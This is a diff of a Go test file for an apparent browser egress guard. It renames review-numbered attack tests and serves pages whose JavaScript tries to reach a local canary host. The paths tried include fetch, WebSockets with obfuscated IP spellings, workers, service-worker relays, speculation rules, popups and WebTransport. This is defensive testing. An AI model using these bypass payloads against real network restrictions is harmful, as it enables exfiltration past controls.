@@ -1,9 +1,9 @@
 package main
 
-// Review of issue 11 (live mode in the user's own browser context): pages of
-// the session try to reach the canary on 127.0.0.2 by paths the egress
-// suite may not cover. Each attack tags its canary URL with "r11-<tag>", so
-// the canary's log says which path got through.
+// Attack pages of a live session in the user's own browser context: pages
+// of the session try to reach the canary on 127.0.0.2 by paths the egress
+// suite may not cover. Each attack tags its canary URL with "attack-<tag>",
+// so the canary's log says which path got through.
 
 import (
 	"context"
@@ -25,31 +25,31 @@ import (
 	"github.com/browsergate/browsergate/internal/testkit"
 )
 
-// r11Site serves the review's attack pages on an allowed site (127.0.0.1)
-// and its cross-site twin (127.0.0.3).
-type r11Site struct {
+// attackSite serves the attack pages on an allowed site (127.0.0.1) and
+// its cross-site twin (127.0.0.3).
+type attackSite struct {
 	canary, ws, self, xsite, udp, self2, user string
 }
 
 func payloadJS(tag string) string {
-	return fmt.Sprintf(`try{fetch("{{C}}/r11-%[1]s-fetch",{mode:"no-cors"}).catch(()=>{})}catch(e){}
-try{new WebSocket("{{WS}}/ws/r11-%[1]s-ws")}catch(e){}
-try{if(typeof navigator.sendBeacon==="function")navigator.sendBeacon("{{C}}/r11-%[1]s-beacon","x")}catch(e){}
+	return fmt.Sprintf(`try{fetch("{{C}}/attack-%[1]s-fetch",{mode:"no-cors"}).catch(()=>{})}catch(e){}
+try{new WebSocket("{{WS}}/ws/attack-%[1]s-ws")}catch(e){}
+try{if(typeof navigator.sendBeacon==="function")navigator.sendBeacon("{{C}}/attack-%[1]s-beacon","x")}catch(e){}
 `, tag)
 }
 
 // specRules is a speculation-rules JSON that prefetches the canary for tag.
 func specRules(tag string) string {
-	return `{"prefetch":[{"source":"list","urls":["{{C}}/r11-` + tag + `"]}]}`
+	return `{"prefetch":[{"source":"list","urls":["{{C}}/attack-` + tag + `"]}]}`
 }
 
-const r11Head = `<!doctype html><meta charset=utf-8><title>r11</title><p id=status>start</p><script>function done(){document.getElementById('status').textContent='done'}</script>`
+const attackHead = `<!doctype html><meta charset=utf-8><title>attack</title><p id=status>start</p><script>function done(){document.getElementById('status').textContent='done'}</script>`
 
-func (s *r11Site) expand(body string) string {
+func (s *attackSite) expand(body string) string {
 	return strings.NewReplacer("{{C}}", s.canary, "{{WS}}", s.ws, "{{S}}", s.self, "{{X}}", s.xsite, "{{U}}", s.udp, "{{S2}}", s.self2, "{{USER}}", s.user).Replace(body)
 }
 
-func (s *r11Site) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+func (s *attackSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	tag := r.URL.Query().Get("tag")
 	js := func(body string) {
 		w.Header().Set("Content-Type", "text/javascript")
@@ -57,13 +57,13 @@ func (s *r11Site) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	}
 	page := func(body string) {
 		w.Header().Set("Content-Type", "text/html")
-		fmt.Fprint(w, s.expand(r11Head+body))
+		fmt.Fprint(w, s.expand(attackHead+body))
 	}
 	p := strings.TrimPrefix(r.URL.Path, "/")
 	switch p {
 	// --- scripts ---
 	case "w.js": // dedicated / shared worker body
-		js(payloadJS(tag) + `try{const es=new EventSource("{{C}}/r11-` + tag + `-es")}catch(e){}
+		js(payloadJS(tag) + `try{const es=new EventSource("{{C}}/attack-` + tag + `-es")}catch(e){}
 onconnect=e=>{e.ports[0].postMessage("hi")};postMessage("hi");`)
 	case "wn.js": // worker that starts a nested worker
 		js(`const n=new Worker("/w.js?tag=` + tag + `");n.onmessage=()=>postMessage("nested");postMessage("outer");`)
@@ -72,7 +72,7 @@ onconnect=e=>{e.ports[0].postMessage("hi")};postMessage("hi");`)
 self.addEventListener("activate",e=>{` + payloadJS(tag+"-activate") + `});
 self.addEventListener("message",e=>{` + payloadJS(tag+"-msg") + `});`)
 	case "relay.js": // a shared worker / service worker that sends what it is told
-		js(`function go(u,p){fetch(u,{mode:"no-cors"}).then(r=>p&&p.postMessage("fetch ok "+r.type),e=>p&&p.postMessage("fetch err "+e)); try{new WebSocket(u.replace(/^http/,"ws").replace(/\/(r11-)/,"/ws/$1"))}catch(e){p&&p.postMessage("ws err "+e)}}
+		js(`function go(u,p){fetch(u,{mode:"no-cors"}).then(r=>p&&p.postMessage("fetch ok "+r.type),e=>p&&p.postMessage("fetch err "+e)); try{new WebSocket(u.replace(/^http/,"ws").replace(/\/(attack-)/,"/ws/$1"))}catch(e){p&&p.postMessage("ws err "+e)}}
 onconnect=e=>{const p=e.ports[0];p.onmessage=m=>{p.postMessage("got "+m.data);go(m.data,p)};p.start();p.postMessage("connected")};
 self.addEventListener("message",e=>go(e.data,e.source));
 self.addEventListener("install",e=>self.skipWaiting());
@@ -112,22 +112,22 @@ setTimeout(done,1500)</script>`)
 		page(`<iframe srcdoc="<script>` + strings.ReplaceAll(payloadJS("ws-srcdoc"), `"`, `&quot;`) + `</script>"></iframe><script>setTimeout(done,1500)</script>`)
 	case "ws-aboutblank":
 		page(`<script>const f=document.createElement("iframe");document.body.append(f);
-try{new f.contentWindow.WebSocket("{{WS}}/ws/r11-ws-aboutblank-ws")}catch(e){}
-try{f.contentWindow.fetch("{{C}}/r11-ws-aboutblank-fetch",{mode:"no-cors"}).catch(()=>{})}catch(e){}
+try{new f.contentWindow.WebSocket("{{WS}}/ws/attack-ws-aboutblank-ws")}catch(e){}
+try{f.contentWindow.fetch("{{C}}/attack-ws-aboutblank-fetch",{mode:"no-cors"}).catch(()=>{})}catch(e){}
 setTimeout(done,1500)</script>`)
 	case "ws-xframe":
 		page(`<iframe src="{{X}}/payload?tag=ws-xframe"></iframe><script>setTimeout(done,2500)</script>`)
 	case "ws-stream":
-		page(`<script>try{const s=new WebSocketStream("{{WS}}/ws/r11-ws-stream");s.opened.then(()=>document.body.append("OPENED"),e=>document.body.append("ERR "+e))}catch(e){document.body.append("ERR "+e)}setTimeout(done,1500)</script>`)
+		page(`<script>try{const s=new WebSocketStream("{{WS}}/ws/attack-ws-stream");s.opened.then(()=>document.body.append("OPENED"),e=>document.body.append("ERR "+e))}catch(e){document.body.append("ERR "+e)}setTimeout(done,1500)</script>`)
 	case "ws-httpscheme":
-		page(`<script>try{new WebSocket("{{C}}/ws/r11-ws-httpscheme")}catch(e){document.body.append("ERR "+e)}setTimeout(done,1500)</script>`)
+		page(`<script>try{new WebSocket("{{C}}/ws/attack-ws-httpscheme")}catch(e){document.body.append("ERR "+e)}setTimeout(done,1500)</script>`)
 	case "ws-spellings":
 		page(`<script>const port=new URL("{{C}}").port;
 for(const h of ["2130706434","0x7f.0.0.2","127.0.0.2.","[::ffff:127.0.0.2]","127.2","%31%32%37.0.0.2","0177.0.0.2","[::ffff:7f00:2]","127.0.0.02"]){
- try{new WebSocket("ws://"+h+":"+port+"/ws/r11-ws-spellings-"+encodeURIComponent(h))}catch(e){document.body.append("ERR "+h+" "+e+" ")}}
+ try{new WebSocket("ws://"+h+":"+port+"/ws/attack-ws-spellings-"+encodeURIComponent(h))}catch(e){document.body.append("ERR "+h+" "+e+" ")}}
 setTimeout(done,1500)</script>`)
 	case "webtransport":
-		page(`<script>try{const t=new WebTransport("https://{{U}}/r11-webtransport");t.ready.then(()=>document.body.append("READY"),e=>document.body.append("ERR "+e))}catch(e){document.body.append("ERR "+e)}setTimeout(done,2000)</script>`)
+		page(`<script>try{const t=new WebTransport("https://{{U}}/attack-webtransport");t.ready.then(()=>document.body.append("READY"),e=>document.body.append("ERR "+e))}catch(e){document.body.append("ERR "+e)}setTimeout(done,2000)</script>`)
 	case "popup-noopener":
 		page(`<button id=go onclick="window.open('/payload?tag=popup-noopener','_blank','noopener');setTimeout(done,1500)">go</button>`)
 	case "popup-link":
@@ -164,38 +164,39 @@ const a=document.createElement("a");a.href="/payload?tag=` + tag + `-link";a.tar
 	case "prerender-inscope":
 		page(`<script type=speculationrules>{"prerender":[{"source":"list","urls":["/payload?tag=prerender-inscope"]}]}</script><script>setTimeout(done,3000)</script>`)
 	case "specrules-prefetch":
-		page(`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-prefetch-only"]}]}</script><script>setTimeout(done,3000)</script>`)
+		page(`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-prefetch-only"]}]}</script><script>setTimeout(done,3000)</script>`)
 	case "specrules-prerender":
-		page(`<script type=speculationrules>{"prerender":[{"source":"list","urls":["{{C}}/r11-specrules-prerender-only"]}]}</script><script>setTimeout(done,3000)</script>`)
+		page(`<script type=speculationrules>{"prerender":[{"source":"list","urls":["{{C}}/attack-specrules-prerender-only"]}]}</script><script>setTimeout(done,3000)</script>`)
 	case "user-sw-use": // the user's own page asks its SW to fetch the user's (out of scope) site
 		page(`<script>navigator.serviceWorker.onmessage=m=>document.body.append(" ["+m.data+"] ");navigator.serviceWorker.ready.then(r=>{r.active.postMessage("{{USER}}/user-sw-fetch");document.body.append("posted")})</script>`)
 	case "specrules-rules.json": // rules named by a Speculation-Rules header
 		w.Header().Set("Content-Type", "application/speculationrules+json")
-		fmt.Fprint(w, s.expand(`{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-header-prefetch"]}],"prerender":[{"source":"list","urls":["{{C}}/r11-specrules-header-prerender"]}]}`))
+		fmt.Fprint(w, s.expand(`{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-header-prefetch"]}],"prerender":[{"source":"list","urls":["{{C}}/attack-specrules-header-prerender"]}]}`))
 	case "specrules-header":
 		w.Header().Set("Speculation-Rules", `"/specrules-rules.json"`)
 		page(`<script>setTimeout(done,3000)</script>`)
 	case "specrules-dyn":
 		page(`<script>const s=document.createElement("script");s.type="speculationrules";
-s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/r11-specrules-dyn-prefetch"]}],prerender:[{source:"list",urls:["{{C}}/r11-specrules-dyn-prerender"]}]});
+s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/attack-specrules-dyn-prefetch"]}],prerender:[{source:"list",urls:["{{C}}/attack-specrules-dyn-prerender"]}]});
 document.head.append(s);setTimeout(done,3000)</script>`)
 	case "specrules-shadow":
 		page(`<div id=h></div><script>const r=document.getElementById("h").attachShadow({mode:"closed"});const s=document.createElement("script");s.type="speculationrules";
-s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/r11-specrules-shadow-prefetch"]}],prerender:[{source:"list",urls:["{{C}}/r11-specrules-shadow-prerender"]}]});
+s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/attack-specrules-shadow-prefetch"]}],prerender:[{source:"list",urls:["{{C}}/attack-specrules-shadow-prerender"]}]});
 r.append(s);setTimeout(done,3000)</script>`)
 	case "specrules-dsd":
-		page(`<div><template shadowrootmode=open><script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-dsd-prefetch"]}],"prerender":[{"source":"list","urls":["{{C}}/r11-specrules-dsd-prerender"]}]}</script></template></div><script>setTimeout(done,3000)</script>`)
+		page(`<div><template shadowrootmode=open><script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-dsd-prefetch"]}],"prerender":[{"source":"list","urls":["{{C}}/attack-specrules-dsd-prerender"]}]}</script></template></div><script>setTimeout(done,3000)</script>`)
 	case "specrules-dsd-closed":
-		page(`<div><template shadowrootmode=closed><script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-dsd-closed-prefetch"]}]}</script></template></div><script>setTimeout(done,3000)</script>`)
+		page(`<div><template shadowrootmode=closed><script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-dsd-closed-prefetch"]}]}</script></template></div><script>setTimeout(done,3000)</script>`)
 	case "specrules-shadow-nested":
 		page(`<div id=h></div><script>const r=document.getElementById("h").attachShadow({mode:"closed"});r.innerHTML="<div id=i></div>";const r2=r.getElementById("i").attachShadow({mode:"open"});
 NodeList.prototype.item=()=>null;Element.prototype.remove=()=>{};
 const s=document.createElement("script");s.type="speculationrules";
-s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/r11-specrules-shadow-nested-prefetch"]}]});
+s.textContent=JSON.stringify({prefetch:[{source:"list",urls:["{{C}}/attack-specrules-shadow-nested-prefetch"]}]});
 r2.append(s);setTimeout(done,3000)</script>`)
-	// The second review's: a namespaced type attribute ahead of the one
-	// Chromium reads, a prefixed script element, an XHTML page, SVG
-	// script elements, a blank popup the opener writes rules into.
+	// Rules in spellings a watch for script elements may miss: a
+	// namespaced type attribute ahead of the one Chromium reads, a
+	// prefixed script element, an XHTML page, SVG script elements, a blank
+	// popup the opener writes rules into.
 	case "sr-nsattr":
 		page(`<script>const s=document.createElement("script");s.setAttributeNS("urn:x","type","text/plain");s.setAttributeNS(null,"type","speculationrules");
 s.textContent='` + specRules("sr-nsattr") + `';document.head.append(s);setTimeout(done,3000)</script>`)
@@ -204,7 +205,7 @@ s.textContent='` + specRules("sr-nsattr") + `';document.head.append(s);setTimeou
 s.textContent='` + specRules("sr-prefixed") + `';document.head.append(s);setTimeout(done,3000)</script>`)
 	case "sr-xhtml":
 		w.Header().Set("Content-Type", "application/xhtml+xml")
-		fmt.Fprint(w, s.expand(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>r11</title></head><body><p id="status">start</p><script type="speculationrules">`+specRules("sr-xhtml")+`</script><script>setTimeout(function(){document.getElementById('status').textContent='done'},3000)</script></body></html>`))
+		fmt.Fprint(w, s.expand(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>attack</title></head><body><p id="status">start</p><script type="speculationrules">`+specRules("sr-xhtml")+`</script><script>setTimeout(function(){document.getElementById('status').textContent='done'},3000)</script></body></html>`))
 	case "sr-svg-parser":
 		page(`<svg><script type="speculationrules">` + specRules("sr-svg-parser") + `</script></svg><script>setTimeout(done,3000)</script>`)
 	case "sr-svg-dyn":
@@ -225,23 +226,23 @@ setTimeout(done,2500)}</script><button id=go onclick="go()">go</button>`)
 setTimeout(()=>{try{const d=w.document;const s=d.createElement("script");s.type="speculationrules";s.textContent='` + specRules("pop-late") + `';d.head.append(s)}catch(e){document.body.append("ERRS "+e)}},1500);
 setTimeout(done,4000)}</script><button id=go onclick="go()">go</button>`)
 	case "specrules-retype":
-		page(`<script id=r type=text/plain>{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-retype-prefetch"]}]}</script><script>const o=document.getElementById("r");const s=document.createElement("script");s.type="text/plain";s.textContent=o.textContent;document.head.append(s);s.type="speculationrules";s.remove();document.head.append(s);setTimeout(done,3000)</script>`)
+		page(`<script id=r type=text/plain>{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-retype-prefetch"]}]}</script><script>const o=document.getElementById("r");const s=document.createElement("script");s.type="text/plain";s.textContent=o.textContent;document.head.append(s);s.type="speculationrules";s.remove();document.head.append(s);setTimeout(done,3000)</script>`)
 	case "dw-aboutblank":
 		page(`<script>const f=document.createElement("iframe");document.body.append(f);
 try{new f.contentWindow.Worker(URL.createObjectURL(new Blob([` + "`" + payloadJS("dw-aboutblank") + "`" + `],{type:"text/javascript"})))}catch(e){document.body.append("ERR "+e)}
 try{new f.contentWindow.SharedWorker("/w.js?tag=shw-aboutblank")}catch(e){document.body.append("ERR "+e)}
 setTimeout(done,1500)</script>`)
 	case "specrules":
-		page(`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-prefetch"]}],
-"prerender":[{"source":"list","urls":["{{C}}/r11-specrules-prerender","/payload?tag=specrules-prerender-inscope"]}]}</script>
-<link rel=prerender href="{{C}}/r11-link-prerender"><script>setTimeout(done,3000)</script>`)
+		page(`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/attack-specrules-prefetch"]}],
+"prerender":[{"source":"list","urls":["{{C}}/attack-specrules-prerender","/payload?tag=specrules-prerender-inscope"]}]}</script>
+<link rel=prerender href="{{C}}/attack-link-prerender"><script>setTimeout(done,3000)</script>`)
 	case "shw-relay-use": // a session page talks to a shared worker that is already running
 		page(`<script>const w=new SharedWorker("/relay.js");w.port.onmessage=m=>document.body.append(" ["+m.data+"] ");w.port.start();
-w.port.postMessage("{{C}}/r11-shw-relay");setTimeout(done,1500)</script>`)
+w.port.postMessage("{{C}}/attack-shw-relay");setTimeout(done,1500)</script>`)
 	case "sw-relay-register": // the user's page registers the relay SW
 		page(`<script>navigator.serviceWorker.register("/relay.js").then(()=>navigator.serviceWorker.ready).then(()=>{document.body.append("READY")})</script>`)
 	case "sw-relay-use":
-		page(`<script>navigator.serviceWorker.onmessage=m=>document.body.append(" ["+m.data+"] ");navigator.serviceWorker.ready.then(r=>{r.active.postMessage("{{C}}/r11-sw-relay");document.body.append("posted")});setTimeout(done,1500)</script>`)
+		page(`<script>navigator.serviceWorker.onmessage=m=>document.body.append(" ["+m.data+"] ");navigator.serviceWorker.ready.then(r=>{r.active.postMessage("{{C}}/attack-sw-relay");document.body.append("posted")});setTimeout(done,1500)</script>`)
 	case "user-shw": // the user's page holds the relay shared worker
 		page(`<script>const w=new SharedWorker("/relay.js");w.port.onmessage=m=>document.body.append(m.data);w.port.start()</script>`)
 	default:
@@ -249,28 +250,28 @@ w.port.postMessage("{{C}}/r11-shw-relay");setTimeout(done,1500)</script>`)
 	}
 }
 
-type r11Env struct {
+type attackEnv struct {
 	f    *egressFixture
-	site *r11Site
+	site *attackSite
 	port int // the user's Chromium DevTools port
 	udp  *atomic.Int64
 	// known: tags of measured residuals (measure), left out of overall.
 	known []string
 }
 
-// startR11 starts a user's Chromium (extra flags appended), browsergate
-// live in the user's context, and the review's sites.
-func startR11(t *testing.T, manifest string, chromiumFlags ...string) *r11Env {
+// startAttacks starts a user's Chromium (extra flags appended), browsergate
+// live in the user's context, and the attack sites.
+func startAttacks(t *testing.T, manifest string, chromiumFlags ...string) *attackEnv {
 	t.Helper()
-	return startR11On(t, manifest, startChromiumFlags(t, chromiumFlags...))
+	return startAttacksOn(t, manifest, startChromiumFlags(t, chromiumFlags...))
 }
 
-// startR11On is startR11 with the user's Chromium already started, on
+// startAttacksOn is startAttacks with the user's Chromium already started, on
 // DevTools port port.
-func startR11On(t *testing.T, manifest string, port int) *r11Env {
+func startAttacksOn(t *testing.T, manifest string, port int) *attackEnv {
 	t.Helper()
 	f := startManifest(t, manifest, "live", fmt.Sprintf("http://127.0.0.1:%d", port))
-	s := &r11Site{canary: f.canaryTo, ws: "ws" + strings.TrimPrefix(f.canaryTo, "http")}
+	s := &attackSite{canary: f.canaryTo, ws: "ws" + strings.TrimPrefix(f.canaryTo, "http")}
 	self, stop, err := serveOn("127.0.0.1:0", s)
 	if err != nil {
 		t.Fatal(err)
@@ -305,11 +306,11 @@ func startR11On(t *testing.T, manifest string, port int) *r11Env {
 		}
 	}()
 	s.udp = udp.LocalAddr().String()
-	return &r11Env{f: f, site: s, port: port, udp: &n}
+	return &attackEnv{f: f, site: s, port: port, udp: &n}
 }
 
 // startChromiumFlags starts a user's Chromium with extra flags, QUIC left
-// on as in a user's own browser (the review's attacks try WebTransport).
+// on as in a user's own browser (the attacks try WebTransport).
 func startChromiumFlags(t testing.TB, extra ...string) int {
 	t.Helper()
 	flags := slices.DeleteFunc(testkit.ChromiumFlags(), func(f string) bool { return f == "--disable-quic" })
@@ -318,10 +319,10 @@ func startChromiumFlags(t testing.TB, extra ...string) int {
 }
 
 // canaryFor lists what the canary saw for one tag.
-func (e *r11Env) canaryFor(tag string) []string {
+func (e *attackEnv) canaryFor(tag string) []string {
 	var out []string
 	for _, s := range e.f.net.Seen() {
-		if strings.Contains(s, "r11-"+tag) {
+		if strings.Contains(s, "attack-"+tag) {
 			out = append(out, s)
 		}
 	}
@@ -330,7 +331,7 @@ func (e *r11Env) canaryFor(tag string) []string {
 
 // attack opens page on the allowed site, clicks #go if asked, waits for
 // "done" and a grace period, and reports what the canary saw for tag.
-func (e *r11Env) attack(t *testing.T, page, tag string, click bool, grace time.Duration) []string {
+func (e *attackEnv) attack(t *testing.T, page, tag string, click bool, grace time.Duration) []string {
 	t.Helper()
 	f := e.f
 	text, refused := f.call(t, "egress.navigate", map[string]any{"url": e.site.self + "/" + page})
@@ -353,11 +354,11 @@ func (e *r11Env) attack(t *testing.T, page, tag string, click bool, grace time.D
 	return got
 }
 
-const r11Grace = 2 * time.Second
+const attackGrace = 2 * time.Second
 
 // measure runs an attack whose path is a known residual and reports what
 // the canary saw, without failing.
-func (e *r11Env) measure(t *testing.T, page string) {
+func (e *attackEnv) measure(t *testing.T, page string) {
 	t.Helper()
 	f := e.f
 	text, refused := f.call(t, "egress.navigate", map[string]any{"url": e.site.self + "/" + page})
@@ -377,10 +378,10 @@ func (e *r11Env) measure(t *testing.T, page string) {
 	t.Logf("RESIDUAL %s: the canary saw %q", page, e.canaryFor(tag))
 }
 
-// overall fails the test if the canary saw anything of the review's at
+// overall fails the test if the canary saw anything of the attacks' at
 // all over the run: a request that arrives late, during another case,
 // still went through.
-func (e *r11Env) overall(t *testing.T) {
+func (e *attackEnv) overall(t *testing.T) {
 	t.Helper()
 	var got []string
 	for _, s := range e.canaryFor("") {
@@ -394,12 +395,12 @@ func (e *r11Env) overall(t *testing.T) {
 	t.Logf("canary overall: %s", e.f.net)
 }
 
-// TestReview11AttackWorkers: shared workers (blob:, data:, same origin,
-// cross-site frame), a service worker of a cross-site frame, dedicated,
-// nested and blob workers, a worker in a cross-site frame.
-func TestReview11AttackWorkers(t *testing.T) {
+// TestLivePagesReachNothingByWorkers: shared workers (blob:, data:, same
+// origin, cross-site frame), a service worker of a cross-site frame,
+// dedicated, nested and blob workers, a worker in a cross-site frame.
+func TestLivePagesReachNothingByWorkers(t *testing.T) {
 	t.Parallel()
-	e := startR11(t, egressManifest)
+	e := startAttacks(t, egressManifest)
 	for _, c := range []struct{ page, tag string }{
 		{"shw-same", "shw-same"},
 		{"shw-blob", "shw-blob"},
@@ -412,7 +413,7 @@ func TestReview11AttackWorkers(t *testing.T) {
 		{"dw-xframe", "dw-xframe"},
 		{"dw-aboutblank", "dw-aboutblank"},
 	} {
-		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, false, r11Grace) })
+		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, false, attackGrace) })
 	}
 	// A last navigation ends the last case's page and its workers.
 	e.f.call(t, "egress.navigate", map[string]any{"url": e.site.self + "/payload?tag=none"})
@@ -420,10 +421,11 @@ func TestReview11AttackWorkers(t *testing.T) {
 	e.overall(t)
 }
 
-// TestReview11AttackSockets: WebSockets from frames and in other forms.
-func TestReview11AttackSockets(t *testing.T) {
+// TestLivePagesReachNothingBySockets: WebSockets from frames and in other
+// forms.
+func TestLivePagesReachNothingBySockets(t *testing.T) {
 	t.Parallel()
-	e := startR11(t, egressManifest)
+	e := startAttacks(t, egressManifest)
 	for _, c := range []struct{ page, tag string }{
 		{"ws-srcdoc", "ws-srcdoc"},
 		{"ws-aboutblank", "ws-aboutblank"},
@@ -432,16 +434,16 @@ func TestReview11AttackSockets(t *testing.T) {
 		{"ws-spellings", "ws-spellings"},
 		{"ws-xframe", "ws-xframe"},
 	} {
-		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, false, r11Grace) })
+		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, false, attackGrace) })
 	}
 	e.overall(t)
 }
 
-// TestReview11AttackPopups: popups by every opener the guard may not
-// recognise.
-func TestReview11AttackPopups(t *testing.T) {
+// TestLivePagesReachNothingByPopups: popups by every opener the guard may
+// not recognise.
+func TestLivePagesReachNothingByPopups(t *testing.T) {
 	t.Parallel()
-	e := startR11(t, egressManifest)
+	e := startAttacks(t, egressManifest)
 	for _, c := range []struct{ page, tag string }{
 		{"popup-noopener", "popup-noopener"},
 		{"popup-link", "popup-link"},
@@ -451,15 +453,16 @@ func TestReview11AttackPopups(t *testing.T) {
 		{"popup-xframe", "popup-xframe"},
 		{"popup-xframe-noopener", "popup-xframe-noopener"},
 	} {
-		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, true, r11Grace) })
+		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, true, attackGrace) })
 	}
 	e.overall(t)
 }
 
-// TestReview11AttackSpeculation: speculation rules and rel=prerender.
-func TestReview11AttackSpeculation(t *testing.T) {
+// TestLivePagesReachNothingBySpeculation: speculation rules and
+// rel=prerender.
+func TestLivePagesReachNothingBySpeculation(t *testing.T) {
 	t.Parallel()
-	e := startR11(t, egressManifest)
+	e := startAttacks(t, egressManifest)
 	// A control every few cases: rules the guard cannot take out (an SVG
 	// script a page script inserts, a residual) must still reach the
 	// canary, or the browser had stopped prefetching (it does after a
@@ -490,10 +493,10 @@ func TestReview11AttackSpeculation(t *testing.T) {
 	for _, p := range []string{"specrules-dsd", "specrules-dsd-closed", "sr-docwrite-dsd-closed"} {
 		e.measure(t, p)
 		// The residual's requests are not held against the rest of the run.
-		e.known = append(e.known, "r11-"+p)
+		e.known = append(e.known, "attack-"+p)
 	}
 	control()
-	e.known = append(e.known, "r11-sr-control")
+	e.known = append(e.known, "attack-sr-control")
 	// Popups last: once one has opened, the browser stops prefetching for
 	// the tab (so no control can follow; both cases leak without the
 	// guard's window.open watch, run alone).
@@ -509,17 +512,17 @@ func TestReview11AttackSpeculation(t *testing.T) {
 }
 
 // TestSpeculationRulesWithPreloadingOff: in a user's browser whose "Preload
-// pages" is off, as the README asks (issue 31, item 3), the speculation
-// rules no observer can take out — in closed and open declarative shadow
-// roots, and the SVG script TestReview11AttackSpeculation uses as its
+// pages" is off, as docs/live-mode.md asks, the speculation rules no
+// observer can take out — in closed and open declarative shadow roots, and
+// the SVG script TestLivePagesReachNothingBySpeculation uses as its
 // control — make the browser fetch nothing: over the whole run the canary
 // sees no request and no TCP connection. (With the setting on, the control
-// reaches the canary: TestReview11AttackSpeculation.)
+// reaches the canary: TestLivePagesReachNothingBySpeculation.)
 func TestSpeculationRulesWithPreloadingOff(t *testing.T) {
 	t.Parallel()
 	flags := slices.DeleteFunc(testkit.ChromiumFlags(), func(f string) bool { return f == "--disable-quic" })
 	port, _ := testkit.StartChromiumPreloadingOff(t, flags...)
-	e := startR11On(t, egressManifest, port)
+	e := startAttacksOn(t, egressManifest, port)
 	for _, p := range []string{"specrules", "specrules-dsd", "specrules-dsd-closed", "sr-docwrite-dsd-closed", "sr-control?n=1"} {
 		e.measure(t, p)
 	}
@@ -529,12 +532,13 @@ func TestSpeculationRulesWithPreloadingOff(t *testing.T) {
 	}
 }
 
-// TestReview11AttackWebTransport: QUIC is not HTTP over TCP; a Chromium as a
-// user runs it (QUIC on). Evidence is UDP datagrams at the canary address.
-func TestReview11AttackWebTransport(t *testing.T) {
+// TestLivePagesReachNothingByWebTransport: QUIC is not HTTP over TCP; a
+// Chromium as a user runs it (QUIC on). Evidence is UDP datagrams at the
+// canary address.
+func TestLivePagesReachNothingByWebTransport(t *testing.T) {
 	t.Parallel()
-	e := startR11(t, egressManifest)
-	e.attack(t, "webtransport", "webtransport", false, r11Grace)
+	e := startAttacks(t, egressManifest)
+	e.attack(t, "webtransport", "webtransport", false, attackGrace)
 	if n := e.udp.Load(); n > 0 {
 		t.Errorf("LEAK webtransport: the UDP canary on %s received %d datagram(s) (QUIC Initial)", e.site.udp, n)
 	} else {
@@ -544,7 +548,7 @@ func TestReview11AttackWebTransport(t *testing.T) {
 
 // userTab opens a tab as the user (own DevTools connection) at u and
 // waits until want appears in its body.
-func (e *r11Env) userTab(t *testing.T, u, want string) (context.Context, func()) {
+func (e *attackEnv) userTab(t *testing.T, u, want string) (context.Context, func()) {
 	t.Helper()
 	alloc, cancel1 := remote.NewAllocator(context.Background(), fmt.Sprintf("http://127.0.0.1:%d", e.port))
 	user, cancel2 := chromedp.NewContext(alloc)
@@ -570,21 +574,22 @@ func (e *r11Env) userTab(t *testing.T, u, want string) (context.Context, func())
 	return user, cancel
 }
 
-// TestReview11AttackUserWorkers: a worker of the allowed site that was
-// already running when the session started (the user's tab on the same
-// site keeps it) is the user's to the guard; a session page talks to it.
-func TestReview11AttackUserWorkers(t *testing.T) {
+// TestLivePagesReachNothingThroughTheUsersWorkers: a worker of the
+// allowed site that was already running when the session started (the
+// user's tab on the same site keeps it) is the user's to the guard; a
+// session page talks to it.
+func TestLivePagesReachNothingThroughTheUsersWorkers(t *testing.T) {
 	t.Parallel()
 	// The user's browser and sites first, then the session.
-	e := startR11(t, egressManifest)
+	e := startAttacks(t, egressManifest)
 	// Shared worker: the user's tab on the allowed site holds it.
 	_, cancelA := e.userTab(t, e.site.self+"/user-shw", "connected")
 	defer cancelA()
 	// Service worker: the user's tab registered it.
 	_, cancelB := e.userTab(t, e.site.self+"/sw-relay-register", "READY")
 	defer cancelB()
-	t.Run("shw-relay", func(t *testing.T) { e.attack(t, "shw-relay-use", "shw-relay", false, r11Grace) })
-	t.Run("sw-relay", func(t *testing.T) { e.attack(t, "sw-relay-use", "sw-relay", false, r11Grace) })
+	t.Run("shw-relay", func(t *testing.T) { e.attack(t, "shw-relay-use", "shw-relay", false, attackGrace) })
+	t.Run("sw-relay", func(t *testing.T) { e.attack(t, "sw-relay-use", "sw-relay", false, attackGrace) })
 	t.Logf("canary overall: %s", e.f.net)
 	t.Logf("daemon stderr:\n%s", e.f.stderr.String())
 }
@@ -592,17 +597,18 @@ func TestReview11AttackUserWorkers(t *testing.T) {
 var _ = runtime.Evaluate
 var _ sync.Mutex
 
-// TestReview11AttackMore: popups whose opener is a subframe, workers of a
-// same-site frame on another port, speculation rules one by one.
-func TestReview11AttackMore(t *testing.T) {
+// TestLivePagesReachNothingThroughSubframesOrSingleRules: popups whose
